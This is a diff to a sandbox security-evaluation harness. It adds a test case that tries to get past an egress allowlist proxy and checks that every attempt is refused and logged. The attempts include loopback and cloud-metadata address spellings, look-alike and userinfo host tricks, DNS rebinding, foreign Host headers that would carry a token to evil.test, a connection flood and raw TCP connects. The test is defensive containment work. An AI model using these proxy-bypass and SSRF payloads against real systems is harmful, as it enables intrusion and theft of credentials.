@@ -55,7 +55,42 @@ async function listeners() {
   };
 }
 
-/** @typedef {{ client: SandboxClient, manager: SandboxManager, stateDir: string, py: string, sh: string, bystander: string, create: (body: object) => Promise<any> }} Ctx */
+/**
+ * The far end for egress: servers in a network namespace (packages/sandbox/src/testing/egress-far.ts)
+ * that record every connection and request, a test DNS server the daemon resolves with (its table
+ * is changed during the case: rebinding), and one private address (10.255.77.1) routed to the far
+ * end, so a rebinding to it that got through would show up in the far end's counters. Needs root.
+ */
+async function startEgressEnv() {
+  if (process.getuid?.() !== 0) return undefined;
+  const { startFarEnd, startTestDns } = await import('../packages/sandbox/dist/testing/egress-far.js');
+  const { execFileSync } = await import('node:child_process');
+  const far = await startFarEnd();
+  const internalFar = '10.255.77.1';
+  const ns = `alfar${process.pid}`;
+  try {
+    execFileSync('ip', ['-n', ns, 'addr', 'add', `${internalFar}/32`, 'dev', 'alfar0']);
+    execFileSync('ip', ['route', 'replace', `${internalFar}/32`, 'via', far.address]);
+  } catch (e) {
+    await far.close();
+    throw e;
+  }
+  const dnsTable = { 'bound.test': [far.address], 'evil.test': [far.address] };
+  const dns = await startTestDns(dnsTable);
+  return {
+    far,
+    dns,
+    dnsTable,
+    internalFar,
+    async close() {
+      await dns.close();
+      // The route goes with the veth, which goes with the namespace.
+      await far.close();
+    },
+  };
+}
+
+/** @typedef {{ client: SandboxClient, manager: SandboxManager, stateDir: string, py: string, sh: string, bystander: string, create: (body: object) => Promise<any>, egressEnv?: Awaited<ReturnType<typeof startEgressEnv>> }} Ctx */
 /** @typedef {{ name: string, attack: string, expected: string, short?: boolean, run: (ctx: Ctx) => Promise<{ contained: boolean, observed: string }> }} Case */
 
 const ok = (cond, observed) => ({ contained: Boolean(cond), observed });
@@ -255,6 +290,310 @@ const cases = [
     },
   },
   {
+    name: 'egress beyond the allowlist',
+    attack:
+      'a sandbox with egress (allowlist: bound.test:443 only, a far end in a network namespace; secret API_TOKEN bound to bound.test) tries, through the proxy: ports 80/81/9000 of the allowed host, IP literals of the host (loopback in five spellings, its own address, the far end by address, metadata 169.254.169.254), look-alike names (`bound.test.evil.test`, `bound.test@evil.test`); DNS rebinding of bound.test to 127.0.0.1, 10.255.77.1 (routed to the far end), 169.254.169.254 and a mixed public+private answer; inside an intercepted CONNECT to bound.test:443, the placeholder under a foreign `Host:` header, in an absolute-form `http://evil.test/` request, in the URL and the body; a flood of 150 CONNECTs; and, around the proxy, raw TCP to the far end, the host, 10.0.2.2, metadata and 1.1.1.1',
+    expected:
+      'the far end gets exactly the allowed HTTPS requests on 443 plus at most one accept per flood connection the rate limit let through (and one TLS handshake without a request for each in-tunnel request refused as misdirected: 421, a foreign Host or absolute-form target never leaves the proxy); its accept counters for 80, 81 and 9000 stay 0; the secret value arrives only on 443 in origin-form requests with `Host: bound.test` (URL and body keep the placeholder); host loopback listeners (including 127.0.0.1:443) see nothing; every refused proxy attempt has a refused event with its reason (not on the allowlist, or the rebound address and its range); flood connections past 20/s (burst 40) or past 64 open streams are closed unread and reported in at most one event per second per reason, and each flood connection the guest closes is released on the host (no egress stream left open); every raw connect fails (only lo); afterwards the sandbox still gets through to bound.test and the bystander answers',
+    async run({ client, create, manager, egressEnv }) {
+      if (!egressEnv) return ok(false, 'no far end: this case needs root (ip netns)');
+      const { far, dnsTable, internalFar } = egressEnv;
+      const SECRET = `sk-eval-${randomBytes(12).toString('hex')}`;
+      const l = await listeners();
+      // Host loopback on the allowed port: where a loopback rebinding would land.
+      const extra = [];
+      const loopSeen = [];
+      for (const port of [443, 80]) {
+        const s = createServer((c) => {
+          loopSeen.push(`127.0.0.1:${port} from ${c.remoteAddress}`);
+          c.destroy();
+        });
+        const bound = await new Promise((res) => {
+          s.once('error', () => res(false));
+          s.listen(port, '127.0.0.1', () => res(true));
+        });
+        if (bound) extra.push(s);
+      }
+      const setDns = async (addrs) => {
+        dnsTable['bound.test'] = addrs;
+        // The daemon's resolver caches answers for their TTL (5 s in the test DNS).
+        await new Promise((r) => setTimeout(r, 5600));
+      };
+      try {
+        const sb = await create({
+          language_pack: 'python',
+          egress: {
+            allow: ['bound.test:443'],
+            secrets: [{ name: 'API_TOKEN', value: SECRET, hosts: ['bound.test'] }],
+          },
+        });
+        const lp = l.loopbackPort;
+        // Refused before anything is dialled: [label, request, host, port as logged].
+        const viaProxy = [
+          ['allowed host, port 80', 'CONNECT bound.test:80 HTTP/1.1\r\n\r\n', 'bound.test', 80],
+          ['allowed host, port 81', 'CONNECT bound.test:81 HTTP/1.1\r\n\r\n', 'bound.test', 81],
+          ['allowed host, port 9000', 'CONNECT bound.test:9000 HTTP/1.1\r\n\r\n', 'bound.test', 9000],
+          [
+            'plain http, port 80',
+            'GET http://bound.test/ HTTP/1.1\r\nAuthorization: Bearer TOK\r\n\r\n',
+            'bound.test',
+            80,
+          ],
+          ['plain http, port 81', 'GET http://bound.test:81/ HTTP/1.1\r\n\r\n', 'bound.test', 81],
+          ['loopback literal', `CONNECT 127.0.0.1:${lp} HTTP/1.1\r\n\r\n`, '127.0.0.1', lp],
+          ['loopback literal, plain', `GET http://127.0.0.1:${lp}/ HTTP/1.1\r\n\r\n`, '127.0.0.1', lp],
+          ['loopback on the allowed port', 'CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n', '127.0.0.1', 443],
+          ['localhost', 'CONNECT localhost:443 HTTP/1.1\r\n\r\n', 'localhost', 443],
+          ['short loopback form', 'CONNECT 127.1:443 HTTP/1.1\r\n\r\n', '127.1', 443],
+          ['decimal loopback', 'CONNECT 2130706433:443 HTTP/1.1\r\n\r\n', '2130706433', 443],
+          ['IPv6 loopback', `CONNECT [::1]:${lp} HTTP/1.1\r\n\r\n`, '::1', lp],
+          ['IPv4-mapped loopback', `CONNECT [::ffff:127.0.0.1]:${lp} HTTP/1.1\r\n\r\n`, '::ffff:127.0.0.1', lp],
+          ['metadata literal', 'CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n', '169.254.169.254', 80],
+          ['metadata, plain', 'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n', '169.254.169.254', 80],
+          ['metadata, mapped', 'CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1\r\n\r\n', '::ffff:a9fe:a9fe', 80],
+          ['far end by address', `CONNECT ${far.address}:443 HTTP/1.1\r\n\r\n`, far.address, 443],
+          ['look-alike suffix', 'CONNECT bound.test.evil.test:443 HTTP/1.1\r\n\r\n', 'bound.test.evil.test', 443],
+          [
+            'userinfo trick',
+            'GET http://bound.test@evil.test:443/ HTTP/1.1\r\nAuthorization: Bearer TOK\r\n\r\n',
+            'bound.test@evil.test',
+            443,
+          ],
+          ...l.hostIps.map((ip) => [
+            `host address ${ip}`,
+            `CONNECT ${ip}:${l.anyPort} HTTP/1.1\r\n\r\n`,
+            ip,
+            l.anyPort,
+          ]),
+        ];
+        // Inside an intercepted CONNECT to bound.test:443 (TLS with the sandbox's CA).
+        const inTunnel = [
+          ['legit', 'GET /eval-legit HTTP/1.1\r\nHost: bound.test\r\nAuthorization: Bearer TOK\r\n\r\n'],
+          ['foreign Host header', 'GET /eval-fronted HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer TOK\r\n\r\n'],
+          [
+            'absolute-form to another host',
+            'GET http://evil.test/eval-absolute HTTP/1.1\r\nAuthorization: Bearer TOK\r\n\r\n',
+          ],
+          [
+            'placeholder in URL and body',
+            'POST /eval-url?key=TOK HTTP/1.1\r\nHost: bound.test\r\nContent-Length: LEN\r\n\r\nbody=TOK',
+          ],
+        ];
+        const raw = [
+          [far.address, 443],
+          [far.address, 80],
+          [far.address, 81],
+          [far.address, 9000],
+          [internalFar, 443],
+          ['127.0.0.1', lp],
+          ['127.0.0.1', 443],
+          ['10.0.2.2', lp],
+          ['169.254.169.254', 80],
+          ['1.1.1.1', 53],
+          ...l.hostIps.map((ip) => [ip, l.anyPort]),
+        ];
+        const prelude = [
+          'import json, os, socket, ssl, time, urllib.request, urllib.error',
+          "tok = os.environ['API_TOKEN']",
+          'def head(s):',
+          "    buf = b''",
+          "    while b'\\r\\n\\r\\n' not in buf:",
+          '        d = s.recv(4096)',
+          '        if not d: break',
+          '        buf += d',
+          '    return buf',
+          'def via_proxy(req):',
+          '    try:',
+          "        s = socket.create_connection(('127.0.0.1', 3128), timeout=30)",
+          "        s.sendall(req.replace('TOK', tok).encode())",
+          "        line = head(s).split(b'\\r\\n')[0].decode() or 'closed'",
+          '        s.close()',
+          '        return line',
+          '    except OSError as e:',
+          "        return 'error %r' % e",
+          'def https_get(path):',
+          '    try:',
+          "        req = urllib.request.Request('https://bound.test' + path, headers={'Authorization': 'Bearer ' + tok})",
+          '        with urllib.request.urlopen(req, timeout=60) as r:',
+          "            return '%d %s' % (r.status, r.read().decode())",
+          '    except urllib.error.HTTPError as e:',
+          '        return str(e.code)',
+          '    except Exception as e:',
+          "        return 'error %r' % e",
+        ];
+        const phase1 = [
+          ...prelude,
+          'def in_tunnel(req):',
+          "    req = req.replace('TOK', tok)",
+          "    if 'LEN' in req: req = req.replace('LEN', str(len(req.split('\\r\\n\\r\\n', 1)[1])))",
+          '    try:',
+          "        s = socket.create_connection(('127.0.0.1', 3128), timeout=60)",
+          "        s.sendall(b'CONNECT bound.test:443 HTTP/1.1\\r\\nHost: bound.test:443\\r\\n\\r\\n')",
+          '        h = head(s)',
+          "        if not h.startswith(b'HTTP/1.1 200'): return 'tunnel refused ' + h[:60].decode()",
+          "        t = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(s, server_hostname='bound.test')",
+          '        t.sendall(req.encode())',
+          "        resp = b''",
+          '        try:',
+          '            while True:',
+          '                d = t.recv(65536)',
+          '                if not d: break',
+          '                resp += d',
+          '        except ssl.SSLError:',
+          '            pass',
+          "        status, _, body = resp.partition(b'\\r\\n\\r\\n')",
+          "        return status.split(b'\\r\\n')[0].decode() + ' ' + body[:80].decode()",
+          '    except Exception as e:',
+          "        return 'error %r' % e",
+          'def raw(h, p):',
+          '    try:',
+          "        socket.create_connection((h, p), timeout=3).close(); return 'CONNECTED'",
+          '    except OSError as e:',
+          "        return 'errno %s' % e.errno",
+          `proxy = [via_proxy(r) for _, r, _, _ in ${JSON.stringify(viaProxy)}]`,
+          `tunnel = [in_tunnel(r) for _, r in ${JSON.stringify(inTunnel)}]`,
+          `rawr = [raw(h, p) for h, p in ${JSON.stringify(raw)}]`,
+          "print(json.dumps({'token': tok, 'proxy': proxy, 'tunnel': tunnel, 'raw': rawr, 'ifaces': sorted(os.listdir('/sys/class/net'))}))",
+        ].join('\n');
+        const r1 = await client.exec(sb.id, { code: phase1, timeout_ms: 300_000 });
+        const p1 = JSON.parse(r1.stdout || '{}');
+        const problems = [];
+        if (!p1.proxy) return ok(false, `guest script failed: ${r1.stderr.slice(-400)}`);
+        viaProxy.forEach(([label], i) => {
+          if (!/^HTTP\/1\.1 403/.test(p1.proxy[i])) problems.push(`${label}: ${p1.proxy[i]}`);
+        });
+        const tunnelOk = p1.tunnel.filter((t) => /^HTTP\/1\.1 200/.test(t)).length;
+        raw.forEach(([h, p], i) => {
+          if (p1.raw[i] === 'CONNECTED') problems.push(`raw connect to ${h}:${p} succeeded`);
+        });
+        if (p1.ifaces.join(' ') !== 'lo') problems.push(`interfaces: ${p1.ifaces.join(' ')}`);
+
+        // DNS rebinding of the allowed name (each answer after the resolver's cache expired).
+        const rebinds = [['127.0.0.1'], [internalFar], ['169.254.169.254'], [far.address, internalFar]];
+        const rebindSeen = [];
+        for (const [i, addrs] of rebinds.entries()) {
+          await setDns(addrs);
+          const r = await client.exec(sb.id, {
+            code: [...prelude, `print(https_get('/eval-rebind-${i}'))`].join('\n'),
+            timeout_ms: 120_000,
+          });
+          rebindSeen.push(r.stdout.trim());
+          if (!/403/.test(r.stdout) || /^200/.test(r.stdout))
+            problems.push(`rebinding to ${addrs}: ${r.stdout.trim()}`);
+        }
+        await setDns([far.address]);
+
+        // Connect flood: 150 CONNECTs to the allowed target, 30 open at a time (the guest caps streams at 64).
+        const flood = [
+          ...prelude,
+          'granted = closed = other = 0',
+          't0 = time.time()',
+          'for b in range(5):',
+          '    socks = []',
+          '    for i in range(30):',
+          '        try:',
+          "            s = socket.create_connection(('127.0.0.1', 3128), timeout=20)",
+          "            s.sendall(b'CONNECT bound.test:443 HTTP/1.1\\r\\n\\r\\n')",
+          '            socks.append(s)',
+          '        except OSError:',
+          '            other += 1',
+          '    for s in socks:',
+          '        try:',
+          "            line = head(s).split(b'\\r\\n')[0]",
+          '        except OSError:',
+          "            line = b'error'",
+          "        if line.startswith(b'HTTP/1.1 200'): granted += 1",
+          "        elif line == b'': closed += 1",
+          '        else: other += 1',
+          '        s.close()',
+          "print(json.dumps({'granted': granted, 'closed': closed, 'other': other, 'seconds': time.time() - t0}))",
+        ].join('\n');
+        const before443 = far.accepts(443);
+        const fr = await client.exec(sb.id, { code: flood, timeout_ms: 300_000 });
+        const f = JSON.parse(fr.stdout || '{}');
+        if (f.granted === undefined) return ok(false, `flood script failed: ${fr.stderr.slice(-400)}`);
+        // Limited connections are reported once a second; then let the bucket refill.
+        await new Promise((r) => setTimeout(r, 3000));
+        const floodAccepts = far.accepts(443) - before443;
+        // Every flood connection was closed by the guest: nothing of it may stay open on the host.
+        const leftOpen = manager.get(sb.id).egress?.openStreams ?? -1;
+        if (leftOpen !== 0)
+          problems.push(`flood: ${leftOpen} egress stream(s) still open on the host after the guest closed them all`);
+        const budget = 40 + Math.ceil(20 * (f.seconds + 1));
+        if (f.granted > budget)
+          problems.push(`flood: ${f.granted} granted in ${f.seconds.toFixed(1)} s (budget ${budget})`);
+        if (f.closed === 0) problems.push('flood: nothing was rate limited');
+        if (floodAccepts > f.granted) problems.push(`flood: far end accepted ${floodAccepts} > ${f.granted} granted`);
+
+        const after = await client.exec(sb.id, {
+          code: [...prelude, "print(https_get('/eval-after'))"].join('\n'),
+          timeout_ms: 120_000,
+        });
+        if (!/^200 far:443:\/eval-after/.test(after.stdout)) problems.push(`after the flood: ${after.stdout.trim()}`);
+        await new Promise((r) => setTimeout(r, 500));
+
+        // The far end: ports, where the secret went, and that the placeholder stayed in URL and body.
+        for (const port of [80, 81, 9000])
+          if (far.accepts(port) > 0) problems.push(`far end port ${port} accepted ${far.accepts(port)}`);
+        const http443 = far.records.filter((x) => x.kind === 'http');
+        const withSecret = http443.filter((x) => JSON.stringify(x).includes(SECRET));
+        for (const x of withSecret)
+          if (x.port !== 443 || x.headers?.host !== 'bound.test' || !x.url?.startsWith('/'))
+            problems.push(`secret sent in ${x.method} ${x.url} with Host: ${x.headers?.host} on port ${x.port}`);
+        for (const x of http443.filter((y) => y.port !== 443))
+          problems.push(`far end got ${x.method} ${x.url} on ${x.port}`);
+        const legit = http443.find((x) => x.url === '/eval-legit');
+        if (legit?.headers?.authorization !== `Bearer ${SECRET}`)
+          problems.push('the legit request did not carry the secret');
+        const inUrl = http443.find((x) => x.url?.startsWith('/eval-url'));
+        if (inUrl && (inUrl.url.includes(SECRET) || !inUrl.url.includes(p1.token) || !inUrl.body?.includes(p1.token)))
+          problems.push(`URL/body: ${inUrl.url} ${inUrl.body}`);
+        // A request refused inside an intercepted CONNECT (misdirected) was refused after the
+        // proxy had verified the real server: one TLS handshake, no request, reached the far end.
+        const misdirected = (await client.egress(sb.id)).events.filter(
+          (x) => x.intercepted && /^misdirected request/.test(x.reason),
+        ).length;
+        const unexplained = far.accepts(443) - http443.length - floodAccepts - misdirected;
+        if (unexplained !== 0)
+          problems.push(`far end: ${unexplained} accept(s) on 443 without a request or flood connection`);
+        const hostSeen = [...l.seen, ...loopSeen];
+        if (hostSeen.length > 0) problems.push(`host listeners saw: ${hostSeen.join(', ')}`);
+
+        // The sandbox's egress log: a refusal with its reason for every attempt refused.
+        const report = await client.egress(sb.id);
+        const events = report.events;
+        if (JSON.stringify(report).includes(SECRET)) problems.push('the egress report shows the secret');
+        for (const [label, , host, port] of viaProxy) {
+          const e = events.find((x) => x.host === host && x.port === port && x.decision === 'refused');
+          if (!e?.reason) problems.push(`no refused event for ${label} (${host}:${port})`);
+        }
+        const rebound = events.filter(
+          (x) => x.host === 'bound.test' && x.decision === 'refused' && /resolves to/.test(x.reason),
+        );
+        for (const want of [/127\.0\.0\.1: loopback/, /10\.255\.77\.1: private/, /169\.254\.169\.254: cloud metadata/])
+          if (!rebound.some((x) => want.test(x.reason))) problems.push(`no rebinding refusal matching ${want}`);
+        const limitedEvents = events.filter((x) => /connection attempt\(s\) closed unread$/.test(x.reason));
+        const limitedCount = limitedEvents.reduce((n, x) => n + Number(/(\d+) connection/.exec(x.reason)?.[1] ?? 0), 0);
+        if (limitedCount !== f.closed)
+          problems.push(`rate-limit events count ${limitedCount}, guest saw ${f.closed} closed`);
+        return ok(
+          problems.length === 0,
+          `${viaProxy.length} proxy attempts 403 and logged; ${tunnelOk}/${inTunnel.length} in-tunnel requests answered, secret seen at the far end in ${withSecret.length} request(s): ` +
+            `${withSecret.map((x) => `${x.url} Host: ${x.headers?.host}`).join(', ')}; ` +
+            `rebinding (${rebinds.length} answers) refused: ${rebound.map((x) => x.reason.replace(/^bound\.test resolves to /, '')).join('; ')}; ` +
+            `flood: ${f.granted} of 150 let through in ${f.seconds.toFixed(1)} s, ${f.closed} closed unread, ${f.other} reset or failed (${limitedCount} reported as rate limited, in ${limitedEvents.length} event(s)), ${leftOpen} stream(s) left open on the host; ` +
+            `far end accepts 80/81/9000: ${far.accepts(80)}/${far.accepts(81)}/${far.accepts(9000)}, 443: ${far.accepts(443)} (${http443.length} requests + ${floodAccepts} flood); ` +
+            `${raw.length} raw connects failed (${[...new Set(p1.raw)].join(', ')}), interfaces: ${p1.ifaces.join(' ')}; host listeners saw ${hostSeen.length}; afterwards: ${after.stdout.trim().slice(0, 40)}` +
+            (problems.length ? `; PROBLEMS: ${problems.join('; ')}` : ''),
+        );
+      } finally {
+        dnsTable['bound.test'] = [far.address];
+        l.close();
+        for (const s of extra) s.close();
+      }
+    },
+  },
+  {
     name: 'clock abuse',
     attack: '`date -s 2001-01-01` in the guest, then a timed exec, then a fresh sandbox',
     expected:
@@ -444,6 +783,8 @@ async function main() {
     process.env.AIRLOCK_IMAGE_CACHE ??
     (existsSync('/var/cache/airlock-images/manifest.json') ? '/var/cache/airlock-images' : imageCacheDir());
   const stateDir = mkdtempSync(join(tmpdir(), 'aleval-'));
+  const selected = cases.filter((c) => (only.length ? only.includes(c.name) : !short || c.short));
+  const egressEnv = selected.some((c) => c.name === 'egress beyond the allowlist') ? await startEgressEnv() : undefined;
   const manager = await SandboxManager.open({
     imageDir,
     stateDir,
@@ -452,6 +793,7 @@ async function main() {
     defaultMemoryMb: 192,
     ...(process.env.AIRLOCK_EVAL_ACCEL ? { accel: process.env.AIRLOCK_EVAL_ACCEL } : {}),
     progress: (s, n, m) => process.stderr.write(`[images ${s}/${n}] ${m}\n`),
+    ...(egressEnv ? { egress: { dnsServers: [egressEnv.dns.server], upstreamCaCerts: [egressEnv.far.caPem] } } : {}),
   });
   const server = createSandboxServer(manager);
   await new Promise((r) => server.listen(0, '127.0.0.1', r));
@@ -463,7 +805,6 @@ async function main() {
     extra.push(sb.id);
     return sb;
   };
-  const selected = cases.filter((c) => (only.length ? only.includes(c.name) : !short || c.short));
   const results = [];
   try {
     const bystander = (await client.create({ language_pack: 'shell' })).id;
@@ -473,7 +814,7 @@ async function main() {
       const started = Date.now();
       let r;
       try {
-        r = await c.run({ client, manager, stateDir, py, sh, bystander, create });
+        r = await c.run({ client, manager, stateDir, py, sh, bystander, create, egressEnv });
       } catch (e) {
         r = { contained: false, observed: `harness error: ${e.code ?? ''} ${e.message}` };
       }
@@ -503,6 +844,7 @@ async function main() {
     await manager.close();
     server.closeAllConnections();
     server.close();
+    await egressEnv?.close();
     rmSync(stateDir, { recursive: true, force: true });
   }
   const failed = results.filter((r) => !r.contained).length;
